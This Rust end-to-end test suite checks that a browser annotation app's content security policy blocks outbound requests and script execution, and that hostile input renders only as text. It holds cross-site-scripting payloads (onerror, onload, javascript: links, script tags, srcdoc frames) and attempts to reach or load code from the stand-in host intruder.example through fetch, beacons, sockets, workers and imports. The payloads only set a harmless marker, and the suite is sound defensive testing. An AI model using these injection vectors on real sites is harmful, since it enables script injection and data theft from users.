//! Nobody gets in and nothing gets out: the content security policy tried, hostile text in every field, every request seen.

use crate::page::{Page, samples};
use crate::{CHROMIUMS_FIRST_TAB, CHROMIUMS_OWN, Visit, journey, project, visit};
use serde_json::{Value, json};
use std::fs;
use std::path::PathBuf;

/// Text that would leave its mark on the page if any of it ran.
const HOSTILE: &str = "<img src=x onerror=hacked=1><svg onload=hacked=2><script>hacked=3</script>\
    \"onmouseover=hacked=4 x=\"'><a href=javascript:hacked=5>{{hacked=6}}${hacked=7}";

#[tokio::test]
async fn no_request_of_the_whole_journey_leaves_the_origin() {
    let visit = Visit { is_recorded: true, expected_error: Some(""), ..visit("requests") };
    journey(visit, |page| async move {
        page.ready().await;
        page.drop_and_wait(&samples(), samples().len()).await;
        page.open_document("wire-visas.txt").await;
        page.choose_statement(0).await;
        page.browser.press(&["x"]).await;
        page.saved().await;
        assert!(!page.export("statements.jsonl").await.is_empty());
        page.browser.reload().await;
        page.ready().await;
        page.analysed(samples().len()).await;

        // What a script could try, if one came in.
        let attempts = "const [at, done] = arguments;
            const add = (name, more) => document.body.append(Object.assign(document.createElement(name), more));
            const tried = [
                () => fetch(at + 'fetch', { mode: 'no-cors' }),
                () => navigator.sendBeacon(at + 'beacon', 'x'),
                () => new WebSocket(at.replace('http', 'ws') + 'socket'),
                () => new EventSource(at + 'events'),
                () => { new Image().src = at + 'image' },
                () => add('link', { rel: 'stylesheet', href: at + 'sheet' }),
                () => add('link', { rel: 'prefetch', href: at + 'prefetch' }),
                () => add('iframe', { src: at + 'frame' }),
                () => add('video', { src: at + 'video', autoplay: true }),
                () => add('object', { data: at + 'object' }),
                () => document.fonts.add(new FontFace('f', `url(${at}font)`)).load('f'),
                () => import(at + 'module.js'),
            ];
            Promise.allSettled(tried.map(async (attempt) => attempt())).then(() => setTimeout(() => done(true), 500));";
        page.browser.read_awaited(attempts, vec![json!("http://intruder.example/")]).await;

        let own = page.server.address.clone();
        let requests = page.server.requests();
        assert!(requests.iter().any(|request| request.starts_with(&format!("GET {own}"))), "{requests:?}");
        let is_own = |request: &str| request.starts_with(&format!("GET {own}"));
        let is_chromiums = |request: &str| {
            request.starts_with(&format!("POST {CHROMIUMS_OWN}")) || request == CHROMIUMS_FIRST_TAB
        };
        let strange: Vec<&String> =
            requests.iter().filter(|request| !is_own(request) && !is_chromiums(request)).collect();
        assert!(strange.is_empty(), "these left the origin: {strange:?}");
    })
    .await;
}

#[tokio::test]
async fn text_never_becomes_a_script() {
    let visit = Visit { expected_error: Some(""), ..visit("scripts") };
    journey(visit, |page| async move {
        page.ready().await;
        let refused = page.browser.read_awaited(ATTEMPTS, vec![]).await;
        let refused = refused.as_object().expect("every attempt has an outcome");
        for (attempt, outcome) in refused {
            assert_eq!(outcome, "refused", "{attempt}");
        }
        assert_eq!(marks(&page).await, json!(null));
    })
    .await;
}

/// Each way to make a script of text, with what became of it. Those that throw nothing are seen by their marks.
const ATTEMPTS: &str = "const done = arguments[0];
    const attempts = {
        eval: () => eval('hacked = 1'),
        function: () => new Function('hacked = 1')(),
        innerHTML: () => { document.body.innerHTML += '<img src=x onerror=hacked=1>' },
        outerHTML: () => { document.querySelector('main').outerHTML = '<b onclick=hacked=1>' },
        insert: () => document.body.insertAdjacentHTML('beforeend', '<svg onload=hacked=1>'),
        write: () => document.write('<script>hacked=1</script>'),
        worker: () => new Worker('data:text/javascript,1'),
        elsewhere: () => new Worker('https://intruder.example/worker_loader.js'),
        service: () => navigator.serviceWorker.register('other.js'),
        policy: () => trustedTypes.createPolicy('mine', { createHTML: (text) => text }),
        inline: () => {
            const script = document.createElement('script');
            script.text = 'hacked = 1';
            document.body.append(script);
        },
        source: () => {
            const script = document.createElement('script');
            script.src = 'https://intruder.example/script.js';
            document.body.append(script);
        },
        parsed: () => {
            const text = '<svg xmlns=\"http://www.w3.org/2000/svg\"><script>hacked=1</script></svg>';
            document.body.append(new DOMParser().parseFromString(text, 'image/svg+xml').documentElement);
        },
        timer: () => setTimeout('hacked = 1'),
        base: () => {
            const base = Object.assign(document.createElement('base'), { href: 'https://intruder.example/' });
            document.head.append(base);
            const is_moved = document.baseURI.includes('intruder');
            base.remove();
            if (!is_moved) throw new Error('refused');
        },
        blob: () => new Worker(URL.createObjectURL(new Blob(['1'], { type: 'text/javascript' }))),
        module: () => import('data:text/javascript,hacked=1'),
        frame: () => { document.createElement('iframe').srcdoc = '<script>parent.hacked=1</script>' },
        range: () => document.createRange().createContextualFragment('<img src=x onerror=hacked=1>'),
        link: () => {
            const link = Object.assign(document.createElement('a'), { href: 'javascript:hacked=1' });
            document.body.append(link);
            link.click();
            return unmarked();
        },
        address: () => {
            location.href = 'javascript:hacked=1';
            return unmarked();
        },
        handler: () => {
            const button = document.createElement('button');
            button.setAttribute('onclick', 'hacked=1');
            button.click();
            return unmarked();
        },
        drawing: () => {
            const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
            const script = document.createElementNS('http://www.w3.org/2000/svg', 'script');
            script.append('hacked = 1');
            svg.append(script);
            document.body.append(svg);
            return unmarked();
        },
        style: () => {
            document.body.insertAdjacentElement('beforeend', document.createElement('style')).append('body { --hacked: 1 }');
            if (!getComputedStyle(document.body).getPropertyValue('--hacked')) throw new Error('refused');
        },
    };
    const unmarked = () => new Promise((go) => setTimeout(go, 200)).then(() => {
        if (window.hacked === undefined) throw new Error('refused');
    });
    const outcome = async (attempt) => {
        try { await attempt() } catch { return 'refused' }
        return 'done';
    };
    /* Not in the driver's own call, which Chromium lets evaluate text. */
    setTimeout(async () => {
        const found = {};
        for (const [name, attempt] of Object.entries(attempts)) found[name] = await outcome(attempt);
        done(found);
    });";

#[tokio::test]
async fn hostile_text_is_shown_as_text_wherever_it_stands() {
    journey(visit("hostile-text"), |page| async move {
        let address = page.server.address.clone();
        page.browser.goto(&format!("{address}#{HOSTILE}")).await;
        page.ready().await;
        let folder = project().join("target/e2e-files/hostile-text");
        let _ = fs::remove_dir_all(&folder);
        fs::create_dir_all(&folder).expect("target/ can be written");
        let text =
            format!("\u{201C}{HOSTILE},\u{201D} said {HOSTILE}. \u{201C}It rains,\u{201D} said Ada Obi.\n");
        let names = ["<svg onload=hacked=8>.txt", "__proto__", "constructor", "javascript:hacked=9.txt"];
        let paths: Vec<PathBuf> = names
            .iter()
            .map(|name| {
                let path = folder.join(name);
                fs::write(&path, &text).expect("target/ can be written");
                path
            })
            .collect();
        page.drop_and_wait(&paths, paths.len()).await;
        for name in names {
            assert!(page.documents().await.contains(&name.to_owned()), "{name} is listed");
            page.browser
                .click_on(&format!("//nav[@aria-label='Documents']//button[contains(., '{name}')]"))
                .await;
        }
        let is_shown = "return document.querySelector('main article')?.innerText.includes(arguments[0])";
        page.browser.wait("the text", is_shown, vec![json!("<script>hacked=3</script>")]).await;

        // Typed names and notes, those that objects of JavaScript have of their own among them.
        for name in [HOSTILE, "__proto__", "hasOwnProperty"] {
            page.choose_statement(0).await;
            page.browser.press(&["f"]).await;
            page.browser.focused("speaker-name").await;
            page.browser.type_text(name).await;
            page.browser.press(&["Enter"]).await;
            page.row_shows(0, ".row__speaker", name).await;
            page.browser.press(&["Escape"]).await;
        }
        page.browser.press(&["Shift", "P"]).await;
        page.browser.press(&["Shift", "T"]).await;
        page.saved().await;
        page.browser.reload().await;
        page.ready().await;
        assert_eq!(marks(&page).await, json!(null));
        assert_eq!(page.browser.read(STRANGE, vec![]).await, json!(0));
    })
    .await;
}

#[tokio::test]
async fn a_hostile_project_file_is_only_text() {
    journey(visit("hostile-project"), |page| async move {
        page.ready().await;
        page.drop_and_wait(&[project().join("tests/projects/hostile.demarche")], 1).await;
        page.says("3 changes fit no longer").await;
        // Its labels, their keys and its people stand in all of these.
        for keys in [&["?"][..], &["Shift", "G"], &["Control", "k"], &["Shift", "E"]] {
            page.browser.press(keys).await;
            page.browser.press(&["Escape"]).await;
        }
        for letter in ["D", "T", "P", "I", "S"] {
            page.browser.press(&["Shift", letter]).await;
            page.browser.wait("the view", "return document.querySelector('main') !== null", vec![]).await;
            assert_eq!(page.browser.read(STRANGE, vec![]).await, json!(0), "view {letter}");
        }
        // Keys of its labels are keys and nothing else.
        page.browser.press(&["Shift", "D"]).await;
        page.choose_statement(0).await;
        for key in ["<", "&", "'", "\""] {
            page.browser.press(&[key]).await;
        }
        page.saved().await;
        assert_eq!(marks(&page).await, json!(null));
        assert_eq!(page.browser.read(STRANGE, vec![]).await, json!(0));
    })
    .await;
}

#[tokio::test]
async fn pages_and_drawings_bring_words_and_nothing_that_runs() {
    journey(visit("hostile-files"), |page| async move {
        page.ready().await;
        let folder = project().join("target/e2e-files/hostile-files");
        let _ = fs::remove_dir_all(&folder);
        fs::create_dir_all(&folder).expect("target/ can be written");
        let html = format!(
            "<!doctype html><html><head><title>{HOSTILE}</title><base href=//intruder.example/>\
             <meta http-equiv=refresh content='0;url=//intruder.example/'><link rel=stylesheet href=//intruder.example/a.css>\
             <script>hacked=8</script></head><body onload=hacked=9><article><h1>Rain</h1>\
             <p>\u{201C}It rains,\u{201D} said <a href=javascript:hacked=10>Ada Obi</a>.<iframe srcdoc='<script>parent.hacked=11</script>'></iframe></p>\
             <style>body{{display:none}}</style><form action=javascript:hacked=12><button autofocus onfocus=hacked=13>x</button></form>\
             </article></body></html>"
        );
        let svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"hacked=14\"><script>hacked=15</script>\
            <text>\u{201C}It snows,\u{201D} said Bo Li.</text><a href=\"javascript:hacked=16\"><text>x</text></a></svg>";
        let scheme = format!("{{\"id\":\"x\",\"name\":{0},\"labels\":{0}}}", json!(HOSTILE));
        let files = [("page.html", html.as_str()), ("drawing.svg", svg), ("scheme.json", &scheme)];
        let paths = files.map(|(name, content)| {
            fs::write(folder.join(name), content).expect("target/ can be written");
            folder.join(name)
        });
        page.drop_and_wait(&paths[..2], 2).await;
        for (name, words) in [("page.html", "It rains"), ("drawing.svg", "It snows")] {
            page.open_document(name).await;
            assert!(page.article().await.contains(words), "{name}");
        }
        page.browser.choose_files("#pick-scheme", &paths[2..]).await;
        page.says("is no scheme").await;
        page.browser.choose_files("#pick-people", &paths[1..2]).await;
        page.says("has no column “name”").await;
        assert_eq!(marks(&page).await, json!(null));
        assert_eq!(page.browser.read(STRANGE, vec![]).await, json!(0));
    })
    .await;
}

/// Elements and attributes that only markup in a text could have made.
const STRANGE: &str = "return document.querySelectorAll('img, iframe, object, main script, main style, main form[action], base,'
    + '[onerror], [onload], [onfocus], [onmouseover], [style*=intruder], a[href^=javascript]').length";

/// What a script that ran has left.
async fn marks(page: &Page) -> Value {
    page.browser.read("return window.hacked ?? null", vec![]).await
}
